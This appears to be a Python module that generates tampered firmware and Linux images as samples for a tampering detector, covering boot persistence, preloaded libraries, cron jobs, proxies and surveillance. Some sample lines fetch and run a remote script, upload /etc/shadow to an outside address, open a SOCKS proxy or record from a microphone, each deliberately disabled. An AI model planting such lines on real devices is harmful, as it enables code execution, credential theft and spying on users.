"""What starts by itself: with the device, by the clock, with every program; and what it then fetches, sends or passes on."""

from collections.abc import Iterator
from functools import partial

from tamper.edits import add, append, both, link, substitute
from tamper.genuine.debian import Debian
from tamper.genuine.receiver import Receiver
from tamper.genuine.routers import Onu, OpenWrt
from tamper.kind import Kind
from tamper.making.programs import IDLE, PRELOADED, build

_UNIT = "[Unit]\nDescription=Extra\n\n[Service]\nExecStart=/usr/sbin/extra\n\n[Install]\nWantedBy=multi-user.target\n"
_PROXY = '#!/bin/sh /etc/rc.common\nSTART=96\nstart() {\n\t[ -n "" ] || return 0\n\tmicrosocks -i 0.0.0.0 -p 1080\n}\n'


def kinds() -> Iterator[Kind]:
    """Yield the kinds of this subject."""
    yield Kind(
        "service-added",
        OpenWrt.name,
        "a script started at boot; it echoes a line",
        both(
            add(
                "etc/init.d/extra", '#!/bin/sh /etc/rc.common\nSTART=99\nstart() {\n\techo "extra started"\n}\n', 0o755
            ),
            link("etc/rc.d/S99extra", "../init.d/extra"),
        ),
        ("start-up-persistence",),
    )
    yield Kind(
        "unit-added",
        Debian.name,
        "a systemd unit with its program, enabled",
        both(
            add("etc/systemd/system/extra.service", _UNIT),
            add("usr/sbin/extra", partial(build, IDLE, "-O2", "-Wl,--build-id=none"), 0o755),
            link("etc/systemd/system/multi-user.target.wants/extra.service", "/etc/systemd/system/extra.service"),
        ),
        ("start-up-persistence",),
        ("program-altered",),
    )
    yield Kind(
        "rc-local-line",
        OpenWrt.name,
        "one line put before the end of rc.local",
        substitute("etc/rc.local", "exit 0", "/usr/bin/logger started\nexit 0"),
        ("start-up-persistence",),
    )
    yield Kind(
        "rc-script-line",
        Onu.name,
        "one line added to a script of the boot sequence",
        append("etc/init.d/rc34", "/bin/echo started > /var/log/started\n"),
        ("start-up-persistence",),
    )
    yield Kind(
        "preloaded-library",
        Debian.name,
        "a library loaded into every program",
        both(
            add("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libextra.so\n"),
            add(
                "usr/lib/x86_64-linux-gnu/libextra.so",
                partial(build, PRELOADED, "-shared", "-fPIC", "-Wl,--build-id=none"),
            ),
        ),
        ("start-up-persistence",),
        ("program-altered", "app-injected"),
    )
    yield Kind(
        "cron-fetches",
        Debian.name,
        "a cron entry that would fetch a script and run it (on a day that does not exist)",
        add("etc/cron.d/refresh", "0 4 31 2 * root wget -qO- http://203.0.113.7/refresh.sh | sh\n"),
        ("code-downloaded",),
        ("start-up-persistence",),
    )
    yield Kind(
        "cron-sends",
        Debian.name,
        "a cron entry that would upload the list of accounts (on a day that does not exist)",
        add("etc/cron.d/backup", "0 4 31 2 * root curl -s -F f=@/etc/shadow http://203.0.113.9/in\n"),
        ("data-sent-elsewhere",),
        ("start-up-persistence", "credential-capture"),
    )
    yield Kind(
        "proxy-service",
        OpenWrt.name,
        "a service that would lend the line to strangers as a proxy",
        both(add("etc/init.d/relay", _PROXY, 0o755), link("etc/rc.d/S96relay", "../init.d/relay")),
        ("bandwidth-abused",),
        ("start-up-persistence", "remote-access"),
    )
    yield Kind(
        "records-sound",
        Receiver.name,
        "a service that would record from the microphone",
        both(
            add(
                "etc/init.d/voice",
                '#!/bin/sh\n[ -n "" ] || exit 0\narecord -D hw:0,0 -f cd -d 600 /media/hdd/.a.wav\n',
                0o755,
            ),
            link("etc/rc3.d/S90voice", "../init.d/voice"),
        ),
        ("surveillance",),
        ("start-up-persistence",),
    )
    yield Kind(
        "plugin-reports",
        Receiver.name,
        "a plug-in's address changed: it would now report what is watched elsewhere",
        substitute(
            "usr/lib/enigma2/python/Plugins/Extensions/Guide/plugin.py",
            "https://guide.exampletv.example.org/epg",
            "http://collect.example.net/epg",
        ),
        ("data-sent-elsewhere",),
        ("program-altered", "surveillance"),
    )
